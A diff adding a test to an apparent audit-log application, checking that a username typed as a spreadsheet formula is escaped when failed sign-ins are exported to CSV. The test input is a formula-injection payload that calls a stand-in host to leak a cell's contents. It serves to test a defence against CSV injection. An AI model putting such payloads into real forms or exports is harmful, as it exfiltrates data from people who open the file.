@@ -113,3 +113,10 @@ def test_a_grant_report_download_is_recorded(tmp_path: Path, departments: dict[s
         ("pat-planner", str(report), "format", "pdf"), ("pat-planner", str(report), "as", "file")}
     # the action filter finds downloads of either kind
     assert "report download" in login(Client(), admin_user).get("/audit/?action=downloaded").content.decode()
+
+
+def test_a_username_typed_as_a_formula_is_exported_as_text(admin_user: Any) -> None:
+    """Anyone can type into the sign-in form, and finance opens the export in a spreadsheet."""
+    Client().post("/accounts/login/", {"username": '=HYPERLINK("http://x.example/?"&A1)', "password": "x"})
+    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
+    assert {r["object"] for r in rows} == {"'=HYPERLINK(\"http://x.example/?\"&A1)"}
